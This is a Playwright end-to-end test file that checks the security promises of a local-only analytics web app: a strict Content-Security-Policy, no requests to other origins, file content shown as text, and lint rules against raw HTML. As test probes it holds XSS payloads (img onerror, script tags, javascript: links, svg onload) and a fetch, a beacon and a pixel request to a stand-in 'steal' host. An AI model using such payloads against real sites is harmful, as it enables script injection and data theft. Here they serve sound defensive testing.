/**
 * Security promises, end to end: a strict Content-Security-Policy on every page that really stops
 * requests to other origins and injected scripts; a full session that sends nothing anywhere; file
 * content (post texts, cell values quoted in messages, file names) shown as text and never run;
 * and the lint rule that keeps {@html} and innerHTML out of the code. docs/reliability.md lists
 * each promise with the test that holds it.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { ESLint } from 'eslint';
import type { Page, Request } from '@playwright/test';
import { expect, resetStorage, test } from './fixtures';
import { dropFiles, dumpDatabase, fixture, textFile, xDailyExport, type FilePayload } from './helpers';

const ROUTES = ['./', './import/', './imports/', './dashboard/', './board/', './accounts/', './calendar/', './workspace/'];

function cspOf(page: Page): Promise<Record<string, string[]>> {
	return page.evaluate(() => {
		const content = document.querySelector('meta[http-equiv="content-security-policy" i]')?.getAttribute('content') ?? '';
		return Object.fromEntries(
			content
				.split(';')
				.map((part) => part.trim().split(/\s+/))
				.filter((parts) => parts[0])
				.map(([name, ...values]) => [name, values])
		);
	});
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

test.beforeEach(async ({ page }) => {
	await resetStorage(page);
});

test('every page carries a strict Content-Security-Policy', async ({ page }) => {
	for (const route of ROUTES) {
		await page.goto(route);
		const csp = await cspOf(page);
		expect(csp['default-src'], route).toEqual(["'self'"]);
		expect(csp['connect-src'], route).toEqual(["'self'"]);
		expect(csp['object-src'], route).toEqual(["'none'"]);
		expect(csp['form-action'], route).toEqual(["'none'"]);
		expect(csp['base-uri'], route).toEqual(["'self'"]);
		// scripts: this origin and the hashes of Kit's own inline bootstrap, nothing else
		for (const source of csp['script-src']) expect(source, route).toMatch(/^'self'$|^'sha256-[A-Za-z0-9+/=]+'$/);
		expect(Object.values(csp).flat().join(' '), route).not.toMatch(/unsafe-eval|\*|https?:/);
	}
});

test('the policy really stops a request to another origin and a script injected into the page', async ({ page, watched }) => {
	await page.goto('./');
	const refused: string[] = [];
	page.on('requestfailed', (request) => refused.push(`${request.url()} ${request.failure()?.errorText}`));
	const violations = await page.evaluate(async () => {
		const seen: string[] = [];
		document.addEventListener('securitypolicyviolation', (event) => seen.push(event.violatedDirective));
		const fetched = await fetch('http://127.0.0.2:9/steal?data=1').then(
			() => 'sent',
			() => 'blocked'
		);
		const beacon = navigator.sendBeacon('http://127.0.0.2:9/beacon', 'data');
		const script = document.createElement('script');
		script.textContent = 'window.__pwned = 1';
		document.body.append(script);
		const image = new Image();
		image.src = 'http://127.0.0.2:9/pixel.png';
		await new Promise((resolve) => setTimeout(resolve, 300));
		return { fetched, beacon, seen };
	});
	// the browser reports each refusal on the console; those messages are this test's own doing
	const refusals = watched.consoleErrors.filter((text) => /Content Security Policy/.test(text));
	watched.consoleErrors.splice(0, watched.consoleErrors.length, ...watched.consoleErrors.filter((text) => !refusals.includes(text)));
	expect(violations.fetched).toBe('blocked');
	expect(violations.seen).toEqual(expect.arrayContaining(['connect-src', 'script-src-elem', 'img-src']));
	expect(refusals.some((text) => text.includes('http://127.0.0.2:9/beacon'))).toBe(true);
	expect(await pwned(page)).toBeUndefined();
	// Chromium reports the image request before refusing it: it must have been refused, by the policy
	expect(refused).toContain('http://127.0.0.2:9/pixel.png csp');
	const pixel = (url: string) => url.startsWith('http://127.0.0.2:9/pixel.png');
	watched.failedRequests.splice(0, watched.failedRequests.length, ...watched.failedRequests.filter((entry) => !pixel(entry)));
	expect(watched.foreignRequests.filter((url) => !pixel(url))).toEqual([]);
	watched.foreignRequests.splice(0, watched.foreignRequests.length);
});

test('a full session (sample data, import, board, snapshot save and open) sends nothing to another origin', async ({ page, baseURL }) => {
	// loading the sample workspace alone takes minutes on a busy two-core machine
	test.setTimeout(480_000);
	const requests: Request[] = [];
	page.on('request', (request) => requests.push(request));
	const origin = new URL(baseURL!).origin;

	await page.goto('./');
	await page.getByRole('button', { name: 'Try with sample data' }).click();
	await expect(page).toHaveURL(/\/dashboard\/$/, { timeout: 180_000 });

	await page.goto('./import/');
	await dropFiles(page, '[data-testid=dropzone]', [fixture('x/daily_tweet_activity_metrics_LisaDeBruine_20210801_20210901_en.csv')]);
	await page.getByTestId('confirm-import').click();
	await expect(page.getByTestId('import-done')).toBeVisible();

	for (const route of ['./dashboard/', './board/', './accounts/', './calendar/', './imports/']) {
		await page.goto(route);
		await expect(page.locator('main h1')).toBeVisible();
	}

	await page.goto('./workspace/');
	const downloadPromise = page.waitForEvent('download');
	await page.getByTestId('save-snapshot').click();
	const download = await downloadPromise;
	const snapshot: FilePayload = { name: download.suggestedFilename(), mimeType: 'application/gzip', buffer: readFileSync((await download.path())!) };
	const saved = await dumpDatabase(page);
	await page.getByTestId('snapshot-input').setInputFiles(snapshot);
	await page.getByRole('button', { name: 'Replace my workspace…' }).click();
	await page.getByTestId('confirm-replace').click();
	await expect(page.getByTestId('snapshot-notice')).toBeVisible({ timeout: 60_000 });
	expect(JSON.parse(await dumpDatabase(page)).imports).toEqual(JSON.parse(saved).imports);

	const urls = requests.map((request) => request.url()).filter((url) => !url.startsWith('data:') && !url.startsWith('blob:'));
	expect(urls.length).toBeGreaterThan(10);
	expect(urls.filter((url) => new URL(url).origin !== origin)).toEqual([]);
	// and nothing was sent anywhere, not even to this origin: a static site only ever reads
	expect(requests.filter((request) => request.method() !== 'GET').map((request) => `${request.method()} ${request.url()}`)).toEqual([]);
});

const HOSTILE_TEXTS = [
	'<img src=x onerror="window.__pwned=1">',
	'<script>window.__pwned=1</script>',
	'<a href="javascript:window.__pwned=1">click me</a>',
	'"><svg onload=window.__pwned=1>'
];

test('markup and script in file names, cells and post texts show as text and never run', async ({ page }) => {
	const hostileName = '<img src=x onerror=window.__pwned=1>.csv';
	const hostileCell = xDailyExport('ContosoBad', '2025-01-01', 3, 10);
	const cellFile = textFile(
		hostileName,
		hostileCell.buffer.toString('utf8').replace(/("2025-01-02","1",)"11"/, '$1"<img src=x onerror=window.__pwned=1>"')
	);
	await page.goto('./import/');
	await dropFiles(page, '[data-testid=dropzone]', [fixture('bad/x-hostile-texts.csv'), cellFile]);

	const preview = page.getByTestId('file-preview');
	await expect(preview.getByRole('heading', { name: hostileName })).toBeVisible();
	// the cell is quoted in the warning about it, as text
	await expect(page.locator('details.issues', { hasText: hostileName })).toContainText('“<img src=x onerror=window.__pwned=1>” in column “impressions” is not a number');
	await page.getByLabel('New account handle').fill('ContosoBad');
	await page.getByRole('button', { name: 'Use this account' }).click();
	await page.getByTestId('confirm-import').click();
	await expect(page.getByTestId('import-done')).toBeVisible();

	await page.goto('./imports/');
	await expect(page.getByTestId('imports-table')).toContainText(hostileName);

	await page.goto('./account/?id=x:contosobad');
	await expect(page.locator('main h1')).toBeVisible();
	const main = await page.locator('main').textContent();
	const shown = HOSTILE_TEXTS.filter((text) => main?.includes(text));
	test.info().annotations.push({ type: 'post texts shown on the account page', description: `${shown.length} of ${HOSTILE_TEXTS.length}` });

	for (const route of ['./dashboard/', './board/', './accounts/', './calendar/', './account/?id=x:contosobad', './imports/']) {
		await page.goto(route);
		await expect(page.locator('main h1')).toBeVisible();
		// no element was made from the markup: the payloads are text nodes
		await expect(page.locator('main img[src="x"], main svg[onload], main a[href^="javascript:"], main script:not([type])')).toHaveCount(0);
		expect(await pwned(page), route).toBeUndefined();
	}
});

test('the lint rules reject {@html} and innerHTML, and the code has neither', async () => {
	const eslint = new ESLint({ cwd: new URL('../..', import.meta.url).pathname });
	const [html] = await eslint.lintText('<script lang="ts">\n\tlet { text }: { text: string } = $props();\n</script>\n\n<p>{@html text}</p>\n', {
		// an existing component's path, so typed linting finds it in the project; the text is the probe's
		filePath: 'src/lib/components/StorageClosedNotice.svelte'
	});
	expect(html.messages.map((message) => message.ruleId)).toContain('svelte/no-at-html-tags');
	const [dom] = await eslint.lintText('export function show(element: HTMLElement, text: string): void {\n\telement.innerHTML = text;\n}\n', {
		filePath: 'src/lib/lint-probe.ts'
	});
	expect(dom.messages.map((message) => message.ruleId)).toContain('no-restricted-syntax');

	// every source file, as text: the rule only sees what ESLint lints, so check the tree itself too
	const root = new URL('../../src/', import.meta.url);
	const offenders = readdirSync(root, { recursive: true, encoding: 'utf8' })
		.filter((path) => /\.(svelte|ts|js)$/.test(path) && !/\.test\.ts$/.test(path))
		.filter((path) => /\{@html\b|\.(innerHTML|outerHTML)\b|insertAdjacentHTML/.test(readFileSync(new URL(path, root), 'utf8')));
	expect(offenders).toEqual([]);
});
